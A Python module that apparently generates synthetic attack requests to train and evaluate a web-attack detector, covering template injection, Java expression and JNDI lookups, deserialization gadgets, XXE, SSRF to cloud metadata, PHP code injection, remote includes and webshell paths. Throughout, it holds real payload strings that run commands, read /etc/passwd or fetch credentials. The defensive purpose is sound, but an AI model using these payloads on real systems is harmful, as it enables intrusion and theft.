"""Attacks with code for an interpreter behind the site: templates, Java, serialized objects, XML, PHP."""

from __future__ import annotations

import base64
import random
from collections.abc import Callable

from weir_models.request_attack.corpus.placing import PATHS, Request, browser, referer, word

R = random.Random


def template(r: R) -> str:
    """Expressions that a template engine evaluates."""
    a, b = r.randint(2, 9999), r.randint(2, 9999)
    return r.choice(("", word(r))) + r.choice((f"{{{{{a}*{b}}}}}", f"${{{a}*{b}}}", f"#{{{a}*{b}}}", f"<%= {a}*{b} %>",
        f"{{{{{a}*'{b}'}}}}", "{{config}}", "{{self.__init__.__globals__}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "{{_self.env.display('x')}}", "{php}echo `id`;{/php}",
        "#set($x=7*7)$x", f"@({a}*{b})", f"*{{{a}*{b}}}", f"[[${{{a}*{b}}}]]", f"~{{{a}*{b}}}",
        "<#assign x='freemarker.template.utility.Execute'?new()>${x('id')}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "{{constructor.constructor('alert(1)')()}}", f"__${{{a}*{b}}}__::.x", "{{['id']|filter('system')}}",
        "{{lipsum.__globals__.os.popen('id').read()}}", "<%= system('id') %>", "${{<%[%'\"}}%\\.",
        "{{'a'.constructor.prototype.charAt=[].join}}", f'{{{{range.constructor("return {a}")()}}}}'))  # fmt: skip


def expression(r: R) -> str:
    """Expression languages of Java frameworks."""
    a, b = r.randint(2, 99999), r.randint(2, 99999)
    return r.choice((f"%{{{a}*{b}}}", "%{(#_='multipart').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm)}",
        "${#context['xwork.MethodAccessor.denyMethodExecution']=false,#x=@java.lang.Runtime@getRuntime().exec('id')}",
        f"redirect:${{{a}*{b}}}", f"action:%{{{a}+{b}}}",
        f"method:#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,#w=#context.get('{word(r)}')",
        f"T(java.lang.Runtime).getRuntime().exec('{word(r)}')", "${''.getClass().forName('java.lang.Runtime')}",
        "${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}",
        "#{request.getClass().getClassLoader()}", "${@java.lang.System@getProperty('os.name')}",
        f"(#a=new java.lang.ProcessBuilder('{word(r)}')).start()", "${pageContext.request.getSession()}",
        "${applicationScope}${sessionScope.getClass()}", "('\\43_memberAccess.allowStaticMethodAccess')(a)=true"))  # fmt: skip


def lookup(r: R) -> Request:
    """Lookups that a logger follows; mostly in headers."""
    scheme = r.choice(("ldap", "rmi", "dns", "ldaps", "iiop"))
    host = f"{word(r)}.{word(r)}.com"
    payload = r.choice((f"${{jndi:{scheme}://{host}/{word(r)}}}", f"${{jndi:{scheme}://{host}:{r.randint(80, 9999)}/a}}",
        f"${{${{lower:j}}ndi:{scheme}://{host}/x}}", f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:{scheme}://{host}/x}}",
        f"${{j${{env:X:-n}}di:{scheme}://{host}/x}}", f"${{${{upper:j}}ndi:{scheme}://${{hostName}}.{host}}}",
        f"${{jndi:${{lower:l}}dap://{host}/${{env:USER}}}}", f"${{${{sys:x:-j}}ndi:rmi://{host}}}"))  # fmt: skip
    where = r.randint(0, 3)
    return Request(
        "GET",
        r.choice(PATHS) if where else f"/{payload}",
        f"{word(r)}={payload}" if where == 1 else None,
        payload if where == 2 else browser(r),
        payload if where == 3 else referer(r),
    )


def java_object(r: R) -> str:
    """Serialized objects of Java, PHP, Python, Ruby, Node and .NET."""
    return r.choice(("rO0AB" + base64.b64encode(r.randbytes(40)).decode(), "aced0005" + r.randbytes(20).hex(),
        f'O:{r.randint(3, 20)}:"{word(r)}":{r.randint(1, 4)}:{{s:4:"file";s:11:"/etc/passwd";}}', f'a:1:{{i:0;O:8:"{word(r)}":0:{{}}}}',
        "!!python/object/apply:os.system ['id']",
        f"!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://{word(r)}.com']]]]",
        "cos\nsystem\n(S'id'\ntR.", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25x",
        f'{{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://{word(r)}.com/x"}}', "!ruby/object:Gem::Installer",
        f"H4sIAAAAAAAA{word(r)}", "gASVJAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="))  # fmt: skip


def xml(r: R) -> str:
    """Entities and includes of XML."""
    target = r.choice(("file:///etc/passwd", f"http://{word(r)}.com/x.dtd", "php://filter/convert.base64-encode/resource=index.php",
        "expect://id", "file:///c:/windows/win.ini", f"//{word(r)}.net/x"))  # fmt: skip
    return r.choice((f'<!DOCTYPE x [<!ENTITY e SYSTEM "{target}">]><x>&e;</x>',
        f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "{target}"> %p;]>', f'<!DOCTYPE {word(r)} PUBLIC "-//X//EN" "{target}">',
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{target}"/>',
        '<?xml version="1.0"?><!DOCTYPE a [<!ELEMENT a ANY>]><a/>', f'<x xsi:schemaLocation="http://{word(r)}.com/">',
        f"<?xml-stylesheet href='{target}'?>"))  # fmt: skip


def inner_host(r: R) -> str:
    """Addresses that only the server can reach, or that call back."""
    n = r.randint(1, 254)
    host = r.choice(("127.0.0.1", "localhost", "169.254.169.254/latest/meta-data/iam/security-credentials/",
        "metadata.google.internal/computeMetadata/v1/", "[::1]", "0.0.0.0:8080", f"10.0.{n}.{n}", f"192.168.{n}.{n}", f"172.16.{n}.1",
        "2130706433", "0x7f000001", "127.1", f"{word(r)}.oast.fun", f"{word(r)}.burpcollaborator.net", f"{word(r)}.dnslog.cn",
        "127.0.0.1:22", f"localhost:{r.randint(1000, 9999)}/admin", "100.100.100.200/latest/meta-data", "127.0.0.1.nip.io",
        f"{word(r)}.com@127.0.0.1", "instance-data/latest/user-data", "metadata/v1.json"))  # fmt: skip
    scheme = r.choice(
        """
            http:// http:// https:// gopher:// dict:// ftp:// file:/// netdoc:/ jar:http:// ldap://
        """.split()
    )
    return (
        r.choice((scheme, "http://")) + host
        if "file" not in scheme and "netdoc" not in scheme
        else scheme + r.choice(("etc/passwd", "etc/hosts", "proc/self/environ", "c:/windows/win.ini"))
    )


def php_code(r: R) -> str:
    """Code for PHP, ASP and JSP."""
    name = word(r)
    call = r.choice(("system", "passthru", "shell_exec", "exec", "assert", "eval", "popen", "print", "phpinfo"))
    argument = r.choice(("'id'", '"whoami"', "$_GET['c']", "$_POST[x]", "base64_decode('aWQ=')", f"md5({r.randint(1, 99999)})", "",
        "$_REQUEST[0]", f"{r.randint(100, 999)}*{r.randint(100, 999)}"))  # fmt: skip
    return r.choice((f"<?php {call}({argument});?>", f"<?={call}({argument})?>", f"{call}({argument});", f"${{@{call}({argument})}}",
        f"';{call}({argument});//", f'";{call}({argument});$x="', f"@eval($_POST['{name}']);", f"die({call}({argument}));",
        f"file_put_contents('{name}.php','<?php {call}({argument});')", f'<%eval request("{name}")%>',
        f'<% Runtime.getRuntime().exec(request.getParameter("{name}")); %>',
        f"response.write({r.randint(100, 9999)}*{r.randint(100, 9999)})", f"'.{call}({argument}).'",
        f"call_user_func('{call}',{argument or 1})", f"{{${{{call}({argument})}}}}", 'Server.CreateObject("WScript.Shell").Exec("cmd")',
        f"include('http://{name}.com/x.txt')", f"echo({argument or 1});"))  # fmt: skip


def wrapper(r: R) -> str:
    """Wrappers of PHP and files of other hosts."""
    name = word(r)
    return r.choice(("php://input", f"php://filter/convert.base64-encode/resource={name}.php",
        "php://filter/read=string.rot13/resource=index", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUW2NdKTs/Pg==",
        "data:text/plain,<?php phpinfo();?>", "expect://id", f"phar://{name}.phar/x", f"zip://{name}.jpg#shell",
        f"http://{name}.com/shell.txt?", f"http://{name}.net/{name}.php?", f"ftp://{name}.com/c99.txt??", f"https://{name}.org/r57.txt?",
        "glob:///etc/*", "compress.zlib:///etc/passwd"))  # fmt: skip


def framework(r: R) -> Request:
    """Calls into frameworks that were open to anyone."""
    name = word(r)
    path, query = r.choice((("/index.php",
        f"s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]={name}"), ("/index.php",
        f"s=index/think\\request/input&filter[]=phpinfo&data={name}"), ("/",
        "-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input"), ("/cgi-bin/php", "-s"), ("/user/register",
        "element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax"), ("/",
        f"q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]={name}"), ("/index.php",
        "routestring=ajax/render/widget_php&widgetConfig[code]=phpinfo();"), ("/",
        f"_method=__construct&filter[]=system&method=get&get[]={name}"), ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", None),
        ("/_ignition/execute-solution", None), ("/index.php", f"option=com_{name}&controller=../../../../etc/passwd%00")))  # fmt: skip
    return Request(r.choice(("GET", "POST")), path, query, browser(r), referer(r))


def shell_file(r: R) -> Request:
    """Files that an earlier intruder left."""
    name = r.choice(("c99", "r57", "wso", "shell", "b374k", "cmd", "alfa", "webshell", "mini", "up", "x", word(r), "leafmailer", "1", "0x"))  # fmt: skip
    folder = r.choice(
        """
            /uploads/ /images/ /wp-content/uploads/2020/01/ / /tmp/ /files/ /media/ /wp-includes/ /upload/avatars/
        """.split()
    )
    if (folder in ("/", "/wp-includes/") and name in ("x", "up", "mini", "1")) or (len(name) < 3 and folder == "/"):
        name = "c99"
    ending = r.choice(("php", "php", "php5", "phtml", "jsp", "aspx", "asp", "php.jpg", "jspx"))
    query = r.choice((None, "cmd=id", "cmd=cat+/etc/passwd", "c=whoami", "act=ls", "exec=ls%20-la"))
    if folder == "/" and name not in ("c99", "r57", "wso", "b374k", "alfa", "webshell", "leafmailer"):
        folder = "/uploads/"
    return Request("GET", f"{folder}{name}.{ending}", query, browser(r), referer(r))


FAMILIES: tuple[tuple[str, str, str, float, Callable[[R], str | Request]], ...] = (
    ("template_injection", "template", "fit", 1.0, template), ("template_injection", "expression", "evaluate", 1.0, expression), ("jndi_and_deserialisation", "lookup", "fit", 0.8, lookup), ("jndi_and_deserialisation", "java_object", "evaluate", 0.8, java_object), ("xxe_and_ssrf", "xml", "evaluate", 0.7, xml), ("xxe_and_ssrf", "inner_host", "fit", 1.0, inner_host), ("php_and_webshell", "php_code", "fit", 1.2, php_code), ("php_and_webshell", "wrapper", "calibrate", 0.7, wrapper), ("php_and_webshell", "framework", "evaluate", 0.7, framework), ("php_and_webshell", "shell_file", "fit", 0.7, shell_file),
)  # fmt: skip
